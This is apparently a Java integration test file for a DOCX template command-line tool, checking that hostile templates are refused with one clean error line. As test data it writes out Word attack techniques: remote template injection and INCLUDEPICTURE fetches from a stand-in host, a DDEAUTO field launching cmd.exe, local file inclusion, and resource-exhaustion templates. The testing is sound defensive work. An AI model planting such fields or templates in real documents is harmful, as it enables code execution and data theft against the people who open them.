// SPDX-License-Identifier: Apache-2.0
package org.jixiao.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.jixiao.testing.docx.DocxText;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile templates through the command line, in a 64 MB heap: each is refused (or safely accepted)
 * with the reasons indented under one {@code jixiao: } line, never a stack trace or a parser's
 * {@code [Fatal Error]} on stderr, never an out-of-memory error.
 */
@Tag("hostile-templates")
class HostileTemplateIT {
    private static final List<String> SMALL_HEAP = List.of("-Xmx64m");

    @TempDir
    Path dir;

    static Stream<Arguments> refused() {
        Charset utf32 = Charset.forName("UTF-32BE");
        return Stream.of(
                Arguments.of("a thousand nested loops", HostileDocx.nestedLoops(1000), "template.limit.loop-depth"),
                Arguments.of(
                        "relationships in UTF-32 attaching a remote template",
                        HostileDocx.attaching("http://evil.example/t.dotm", "word/_rels/settings.xml.rels", utf32),
                        "template.xml.encoding"),
                Arguments.of("a UTF-32 document with a DOCTYPE", HostileDocx.doctypeIn(utf32), "template.xml.encoding"),
                Arguments.of(
                        "relationships named .RELS attaching a remote template",
                        HostileDocx.attaching(
                                "http://evil.example/t.dotm", "word/_rels/settings.xml.RELS", StandardCharsets.UTF_8),
                        "template.external-relationship"),
                Arguments.of(
                        "field keywords Word ends at a quote, a backslash or a no-break space",
                        HostileDocx.fields(
                                "INCLUDEPICTURE\"http://evil.example/p.png\"",
                                "INCLUDEPICTURE\\d \"http://evil.example/p.png\"",
                                "DDEAUTO\"c:\\\\windows\\\\system32\\\\cmd.exe\" \"/k calc\"",
                                "\u00a0INCLUDETEXT \"c:\\\\secret.docx\""),
                        "template.field.forbidden"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void lintAndRenderRefuseItWithOneLineOnStderr(String name, HostileDocx template, String code) throws IOException {
        Files.write(dir.resolve("hostile.docx"), template.bytes());
        JarRun.potou(dir.resolve("x.json"));

        JarRun lint = JarRun.withJvm(dir, SMALL_HEAP, "lint", "hostile.docx");
        assertEquals(1, lint.exitCode(), lint.out() + lint.err());
        assertEquals("", lint.err());
        assertTrue(lint.out().startsWith("错误 ") && lint.out().contains(" [" + code + "] "), lint.out());
        lint.assertNoStackTrace();

        JarRun render = JarRun.withJvm(dir, SMALL_HEAP, "render", "x.json", "--template", "hostile.docx");
        assertEquals(1, render.exitCode(), render.out() + render.err());
        assertOneLineAndTheProblems(render, code);
        assertFalse(Files.exists(dir.resolve("x.docx")));
    }

    @Test
    void anExponentialTemplateLintsButItsRenderStopsAtTheIterationLimit() throws IOException {
        Files.write(dir.resolve("hostile.docx"), HostileDocx.nestedLoops(8).bytes());
        JarRun.potou(dir.resolve("x.json"));
        JarRun render =
                JarRun.withJvm(dir, SMALL_HEAP, "--lang", "en", "render", "x.json", "--template", "hostile.docx");
        assertEquals(1, render.exitCode(), render.out() + render.err());
        assertOneLineAndTheProblems(render, "data.limit.iterations");
        assertTrue(render.errLines().get(0).contains("the data does not fit the template"), render.err());
        assertFalse(Files.exists(dir.resolve("x.docx")));
    }

    @Test
    void aTemplateRepeatingMuchTextStopsAtTheOutputLimit() throws IOException {
        // 300 KB of text in two loops over the six goals: 36 copies, 10.5 MB of XML.
        Files.write(
                dir.resolve("hostile.docx"), HostileDocx.repeatedText(2, 300).bytes());
        JarRun.potou(dir.resolve("x.json"));
        JarRun render = JarRun.withJvm(dir, SMALL_HEAP, "render", "x.json", "--template", "hostile.docx");
        assertEquals(1, render.exitCode(), render.out() + render.err());
        assertOneLineAndTheProblems(render, "data.limit.output-size");
        assertFalse(Files.exists(dir.resolve("x.docx")));
    }

    @Test
    void aLocalAttachedTemplateIsAWarningAndLeftOutOfTheDocument() throws IOException {
        String normal = "file:///C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm";
        Files.write(dir.resolve("wps.docx"), HostileDocx.attaching(normal).bytes());
        JarRun.potou(dir.resolve("x.json"));

        JarRun lint = JarRun.withJvm(dir, SMALL_HEAP, "lint", "wps.docx");
        assertEquals(0, lint.exitCode(), lint.out() + lint.err());
        assertTrue(
                lint.outLines().get(0).startsWith("警告 word/settings.xml")
                        && lint.outLines().get(0).contains(" [template.attached-template.dropped] "),
                lint.out());

        JarRun render = JarRun.withJvm(dir, SMALL_HEAP, "render", "x.json", "--template", "wps.docx");
        assertEquals(0, render.exitCode(), render.out() + render.err());
        assertEquals("", render.err());
        assertTrue(
                render.outLines().get(1).startsWith("  警告 word/settings.xml")
                        && render.outLines().get(1).contains(" [template.attached-template.dropped] "),
                render.out());
        byte[] docx = Files.readAllBytes(dir.resolve("x.docx"));
        String text = DocxText.canonical(docx);
        assertTrue(text.contains("湛江市坡头区民政局"), text);
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(docx))) {
            for (ZipEntry e; (e = zip.getNextEntry()) != null; ) {
                String part = new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                assertFalse(part.contains("Normal.dotm") || part.contains("attachedTemplate"), e.getName());
            }
        }
    }

    /** Exactly one {@code jixiao: } line, then the problems indented, one of them {@code code}; nothing else. */
    private static void assertOneLineAndTheProblems(JarRun run, String code) {
        run.assertNoStackTrace();
        assertFalse(run.err().contains("[Fatal Error]"), run.err());
        List<String> lines = run.errLines();
        assertTrue(lines.get(0).startsWith("jixiao: "), run.err());
        assertTrue(lines.size() >= 2, run.err());
        for (String line : lines.subList(1, lines.size())) {
            assertTrue(line.startsWith("  ") && !line.startsWith("jixiao: "), run.err());
        }
        assertTrue(lines.stream().anyMatch(l -> l.contains(" [" + code + "] ")), run.err());
    }
}
